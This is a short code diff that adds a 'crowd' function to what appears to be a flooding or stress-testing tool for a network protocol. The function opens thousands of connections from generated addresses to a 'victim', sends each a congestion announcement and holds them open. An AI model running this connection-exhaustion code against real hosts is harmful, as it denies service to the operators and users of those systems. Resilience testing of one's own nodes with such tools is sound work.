@@ -96,6 +96,26 @@ def flood(source, victim, port, count, size, other=0, pad=0):
         select.select([s], [], [], 0.2)
 
 
+def crowd(prefix, victim, count):
+    """COUNT addresses connect, say that a port of theirs is congested, and stay."""
+    import resource
+
+    resource.setrlimit(resource.RLIMIT_NOFILE, (int(count) + 100,) * 2)
+    bits = b"\1" + bytes(8191)
+    stay = []
+    for i in range(int(count)):
+        s = dial("%s%x" % (prefix, 0x1000 + i), victim)
+        s.sendall(header(0, len(bits), 0, 0, 1) + bits + header(1, 0, 0, 0))
+        stay.append(s)
+    welcome = 0
+    for s in stay:
+        s.settimeout(30)
+        welcome += bool(s.recv(1))
+    say("here", welcome)
+    sys.stdin.read()
+    select.select([], [], [], 600)
+
+
 def histories(prefix, victim, count):
     """COUNT addresses send from 1,000 ports, none of which is near another; no announcement."""
     stay = []
